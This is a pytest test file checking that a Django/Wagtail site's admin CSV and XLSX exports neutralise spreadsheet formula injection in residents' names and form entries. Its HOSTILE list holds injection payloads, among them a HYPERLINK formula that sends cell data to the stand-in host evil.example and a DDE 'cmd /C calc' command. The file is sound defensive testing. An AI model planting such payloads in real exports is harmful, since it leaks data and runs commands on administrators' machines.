"""No admin export runs a formula from residents' text (home/exports.py): event registrations, contact-form
submissions and Wagtail's site history, as CSV and XLSX, with hostile names."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission
from wagtail.log_actions import log

from home.exports import neutralise
from home.models import ContactPage
from home.registrations import confirm, register
from tests.factories import add_event

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"Click")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def body(response):
    content = response.streaming_content if response.streaming else [response.content]
    return b"".join(content)


def csv_rows(response):
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def xlsx_cells(response):
    return [cell for row in load_workbook(io.BytesIO(body(response))).active.iter_rows() for cell in row]


def assert_csv_safe(rows):
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    for hostile in HOSTILE:
        assert ["'" + hostile in row for row in rows].count(True) == 1, hostile


def assert_xlsx_safe(cells):
    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for cell in cells:
        assert cell.data_type != "f", cell.value
    for hostile in HOSTILE:
        # Text as typed, in a text cell with Excel's quote prefix: shown, never evaluated, even when edited.
        cell = texts[hostile.replace("\r", "\n") if hostile not in texts else hostile]
        assert cell.data_type in ("s", "inlineStr")
        assert cell.quotePrefix


def test_neutralise_prefixes_formula_like_text_and_keeps_numbers():
    for hostile in HOSTILE:
        assert neutralise(hostile) == "'" + hostile
    for harmless in ("Anna Bērziņa", "", "'=already quoted", "a=b", "1-2"):
        assert neutralise(harmless) == harmless
    for number in (-5, 3.5, None):
        assert neutralise(number) == number


@pytest.fixture
def hostile_registrations(event_index_lv):
    event = add_event(event_index_lv, slug="hostile-export-event", title="Talka")
    for number, name in enumerate(HOSTILE):
        confirm(register(event, name, f"person{number}@example.test", "lv"))
    # Confirmed: the listing and its export leave unconfirmed registrations out unless asked.
    confirm(register(event, "Anna Bērziņa", "anna@example.test", "lv"))
    return event


def test_the_registrations_csv_export_neutralises_formulas(client, editor, hostile_registrations):
    client.force_login(editor)
    response = client.get(reverse("eventregistration:index") + "?export=csv")
    assert response.status_code == 200
    rows = csv_rows(response)
    assert_csv_safe(rows)
    assert any("Anna Bērziņa" in row for row in rows), "plain names stay as they are"


def test_the_registrations_xlsx_export_keeps_formulas_as_text(client, editor, hostile_registrations):
    client.force_login(editor)
    response = client.get(reverse("eventregistration:index") + "?export=xlsx")
    assert response.status_code == 200
    assert_xlsx_safe(xlsx_cells(response))


def test_contact_form_submissions_export_neutralises_formulas(client, superuser):
    page = ContactPage.objects.live().filter(locale__language_code="lv").first()
    field = page.form_fields.first()
    name = field.clean_name
    for hostile in HOSTILE:
        FormSubmission.objects.create(page=page, form_data={name: hostile})
    client.force_login(superuser)
    url = reverse("wagtailforms:list_submissions", args=[page.pk])

    csv_response = client.get(url + "?export=csv")
    assert csv_response.status_code == 200
    assert_csv_safe(csv_rows(csv_response))

    xlsx_response = client.get(url + "?export=xlsx")
    assert xlsx_response.status_code == 200
    assert_xlsx_safe(xlsx_cells(xlsx_response))


def test_the_site_history_export_neutralises_residents_text(client, superuser, hostile_registrations):
    # Audit entries keep the object's label, and a label can be a resident's text (an idea's title, a name).
    for registration in hostile_registrations.registrations.all():
        log(instance=registration, action="wagtail.edit", user=superuser)
    client.force_login(superuser)
    url = reverse("wagtailadmin_reports:site_history")

    csv_response = client.get(url + "?export=csv")
    assert csv_response.status_code == 200
    rows = csv_rows(csv_response)
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    xlsx_response = client.get(url + "?export=xlsx")
    assert xlsx_response.status_code == 200
    assert not [cell.value for cell in xlsx_cells(xlsx_response) if cell.data_type == "f"]
